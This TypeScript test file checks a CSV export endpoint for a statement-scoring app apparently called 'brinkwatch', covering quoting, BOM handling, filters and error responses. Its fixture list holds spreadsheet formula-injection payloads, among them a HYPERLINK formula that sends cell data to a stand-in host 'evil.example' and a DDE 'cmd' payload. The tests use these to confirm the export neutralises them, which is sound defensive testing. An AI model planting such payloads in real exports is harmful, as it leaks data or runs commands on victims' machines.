import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import type { StatementView } from '../../server/store/statements-repo.ts';
import { createTempStore } from '../helpers/temp-store.ts';
import { createExportApp, DAY, expectedText, HOUR, seedStatements, type SeedStatement } from './export-fixtures.ts';

const T0 = Date.UTC(2026, 10, 1); // 2026-11-01T00:00:00Z
const NOW = Date.UTC(2026, 10, 26, 12);

const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  'He said "we will respond", firmly, and left.',
  'First line.\nSecond line, with a comma.\r\nThird line "quoted".',
  'Missiles 🚀 and fire 🔥, flags 🇷🇺🇺🇦, zero-width\u200Bjoiner',
  'وزارة الخارجية الإيرانية: "سنرد بحزم" \u202Bمقلوب\u202C',
  'עברית עם "מרכאות", ופסיק',
  'A plain statement\tabout talks in Geneva;\ttabs inside stay as they are.',
];

const t = createTempStore();
const { app } = createExportApp(t.store, { now: () => NOW });

function seeded(): SeedStatement[] {
  const items: SeedStatement[] = HOSTILE_TEXTS.map((text, i) => ({
    text,
    occurredAt: T0 + i * HOUR,
    score: [91.5, 3.5, 40, 60.2, 0, 100, 22, 80, 55.5, 70, 15, 5][i]!,
    speaker: i % 3 === 0 ? 'Russia' : i % 3 === 1 ? '=Evil Speaker' : null,
    targets: i % 2 === 0 ? ['Ukraine', 'NATO'] : [],
    source: i % 4 === 0 ? '@state_media, "official"' : 'Press briefing',
    url: i % 5 === 0 ? `https://example.org/a?b=${i}&c=d,e` : null,
    signals:
      i % 2 === 0
        ? [
            { category: 'threat-of-force', text: 'will respond', weight: 2 },
            { category: 'ultimatum', text: '=within 48 hours', weight: 5 },
            { category: 'accusation', text: 'they, "provoked"', weight: 1 },
            { category: 'mobilization', text: 'troops', weight: 0.5 },
          ]
        : [],
  }));
  items.push({ text: 'Still waiting to be scored', occurredAt: T0 + 20 * HOUR, score: null, speaker: 'China' });
  // A negative score cannot come from the scorer but proves a number is never prefixed.
  items.push({ text: 'numeric edge', occurredAt: T0 + 21 * HOUR, score: -2, speaker: 'Iran' });
  items.push({ text: 'outside the range', occurredAt: T0 + 40 * DAY, score: 50 });
  return items;
}

before(() => {
  seedStatements(t.store, seeded());
});
after(() => t.cleanup());

async function getCsv(url: string) {
  const res = await request(app)
    .get(url)
    .buffer(true)
    .parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
  return { status: res.status, headers: res.headers, raw: res.body as Buffer };
}

function parseCsv(raw: Buffer): string[][] {
  return parse(raw, { bom: true, record_delimiter: '\r\n' }) as string[][];
}

function expectedRow(s: StatementView): string[] {
  const top = [...s.signals]
    .sort((a, b) => b.weight - a.weight || a.start - b.start)
    .slice(0, 3)
    .map((g) => `${g.category}: ${g.text}`)
    .join(' | ');
  return [
    String(s.id),
    s.occurredAt,
    expectedText(s.speaker),
    s.targets.join('; '),
    expectedText(s.source),
    expectedText(s.url),
    s.score === null ? '' : String(s.score),
    s.level ?? '',
    expectedText(top === '' ? null : top),
    s.scorerVersion ?? '',
    s.status,
    expectedText(s.lang),
    expectedText(s.text),
  ];
}

const RANGE = `from=2026-11-01T00:00:00Z&to=2026-11-26T00:00:00Z`;

test('statements.csv parses back with csv-parse to exactly the stored statements, newest first', async () => {
  const { status, headers, raw } = await getCsv(`/api/export/statements.csv?${RANGE}`);
  assert.equal(status, 200);
  assert.equal(headers['content-type'], 'text/csv; charset=utf-8');
  assert.equal(headers['content-disposition'], 'attachment; filename="brinkwatch-statements-2026-11-01_2026-11-25.csv"');
  const [header, ...rows] = parseCsv(raw);
  assert.deepEqual(header, ['id', 'time', 'speaker', 'targets', 'source', 'url', 'score', 'level', 'top_signals', 'scorer_version', 'status', 'lang', 'text']);
  const stored = t.store.statements.list({ from: Date.parse('2026-11-01T00:00:00Z'), to: Date.parse('2026-11-26T00:00:00Z') });
  assert.equal(stored.length, HOSTILE_TEXTS.length + 2);
  assert.deepEqual(rows, stored.map(expectedRow));
  assert.ok(raw.includes('\r\n'), 'records end with CRLF');
  assert.notEqual(raw[0], 0xef, 'no BOM unless asked for');
});

test('formula payloads reach the spreadsheet as text, while our numbers stay numbers', async () => {
  const rows = parseCsv((await getCsv(`/api/export/statements.csv?${RANGE}`)).raw).slice(1);
  const texts = rows.map((r) => r[12]);
  for (const payload of ['=HYPERLINK(', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1']) {
    const cell = texts.find((x) => x?.slice(1).startsWith(payload));
    assert.ok(cell, `row for ${JSON.stringify(payload)}`);
    assert.equal(cell[0], "'", `${JSON.stringify(payload)} is prefixed`);
  }
  assert.ok(rows.some((r) => r[2] === "'=Evil Speaker"), 'speaker names are neutralised too');
  const edge = rows.find((r) => r[12] === 'numeric edge')!;
  assert.equal(edge[6], '-2', 'a numeric score -2 is written as a number, not as text');
  assert.ok(rows.some((r) => r[6] === '3.5'));
  assert.ok(rows.some((r) => r[8]!.startsWith('ultimatum: =within 48 hours | threat-of-force: will respond')));
  const raw = (await getCsv(`/api/export/statements.csv?${RANGE}`)).raw.toString('utf8');
  assert.ok(raw.includes('"\'=HYPERLINK(""http://evil.example/steal?d=""&A1,""Click for details"")"'), 'RFC 4180 quoting of a neutralised field');
});

test('bom=1 starts the file with the UTF-8 byte order mark and nothing else changes', async () => {
  const plain = await getCsv(`/api/export/statements.csv?${RANGE}`);
  const withBom = await getCsv(`/api/export/statements.csv?${RANGE}&bom=1`);
  assert.deepEqual([...withBom.raw.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.deepEqual(withBom.raw.subarray(3), plain.raw);
});

test('an empty range gives the header row only', async () => {
  const { status, raw } = await getCsv('/api/export/statements.csv?from=2020-01-01&to=2020-01-02');
  assert.equal(status, 200);
  assert.equal(raw.toString('utf8'), 'id,time,speaker,targets,source,url,score,level,top_signals,scorer_version,status,lang,text\r\n');
});

test('the filters of GET /api/statements select the same statements', async () => {
  const cases: Array<[string, Parameters<typeof t.store.statements.list>[0]]> = [
    ['actor=russia', { actor: 'russia' }],
    ['minScore=50', { minScore: 50 }],
    ['category=ultimatum', { category: 'ultimatum' }],
    ['status=pending', { status: 'pending' }],
    ['actor=Ukraine&minScore=60', { actor: 'Ukraine', minScore: 60 }],
  ];
  const from = Date.parse('2026-11-01T00:00:00Z');
  const to = Date.parse('2026-11-26T00:00:00Z');
  for (const [query, filter] of cases) {
    const rows = parseCsv((await getCsv(`/api/export/statements.csv?${RANGE}&${query}`)).raw).slice(1);
    const expected = t.store.statements.list({ ...filter, from, to });
    assert.ok(expected.length > 0, `${query} selects something`);
    assert.deepEqual(rows.map((r) => Number(r[0])), expected.map((s) => s.id), query);
  }
});

test('without from/to the export covers the last 30 days up to now', async () => {
  const { headers, raw } = await getCsv('/api/export/statements.csv');
  const rows = parseCsv(raw).slice(1);
  assert.equal(rows.length, HOSTILE_TEXTS.length + 2, 'the statement 40 days after T0 is in the future of NOW and excluded');
  assert.match(String(headers['content-disposition']), /brinkwatch-statements-2026-10-27T1200Z_2026-11-26T1200Z\.csv/);
});

test('bad parameters get a 400 JSON error naming the parameter, before any CSV', async () => {
  const cases: Array<[string, RegExp]> = [
    ['from=yesterday-ish', /^from: /],
    ['from=2026-11-20&to=2026-11-10', /^from: must be before to/],
    ['from=2020-01-01&to=2026-01-01', /^to: .*at most 366 days/],
    ['minScore=high', /^minScore: /],
    ['status=lost', /^status: /],
    ['bom=yes', /^bom: /],
    ['from=2026-11-01&from=2026-11-02', /^from: must be given once/],
    ['to=99999999999999999', /^to: must be between/],
    ['actr=Russia', /Unrecognized key.*actr/],
  ];
  for (const [query, message] of cases) {
    const res = await request(app).get(`/api/export/statements.csv?${query}`);
    assert.equal(res.status, 400, query);
    assert.match(String(res.headers['content-type']), /^application\/json/, query);
    assert.equal(res.body.error.code, 'invalid-query', query);
    assert.match(res.body.error.message, message, query);
    assert.equal(res.headers['content-disposition'], undefined, query);
  }
});

test('a range that does not start at midnight names minutes in the file name', async () => {
  const { headers } = await getCsv('/api/export/statements.csv?from=2026-11-02T09:30:00Z&to=2026-11-02T17:45:00Z');
  assert.equal(headers['content-disposition'], 'attachment; filename="brinkwatch-statements-2026-11-02T0930Z_2026-11-02T1745Z.csv"');
});

test('HEAD answers the CSV headers without a body', async () => {
  const res = await request(app).head(`/api/export/statements.csv?${RANGE}`);
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  assert.match(String(res.headers['content-disposition']), /brinkwatch-statements-2026-11-01_2026-11-25\.csv/);
});
